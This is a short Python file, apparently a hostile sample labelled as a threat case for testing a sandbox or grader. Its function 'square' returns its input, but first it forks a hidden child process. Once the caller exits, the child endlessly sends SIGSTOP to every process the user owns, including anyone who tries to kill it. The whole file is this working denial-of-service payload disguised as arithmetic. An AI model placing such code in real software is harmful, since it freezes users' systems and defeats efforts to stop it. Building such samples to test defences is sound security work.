"""Leaves a process behind that stops whatever else gets its user, so that who comes to kill it never ends.

Threat: A4, D25.
"""

import os
import signal


def square(x):
    mine = os.getpid()
    try:
        if os.fork() == 0:
            while os.getppid() == mine:  # until the one that answers has been ended
                pass
            while True:
                try:
                    os.kill(-1, signal.SIGSTOP)
                except OSError:
                    pass
    except OSError:
        pass
    return x
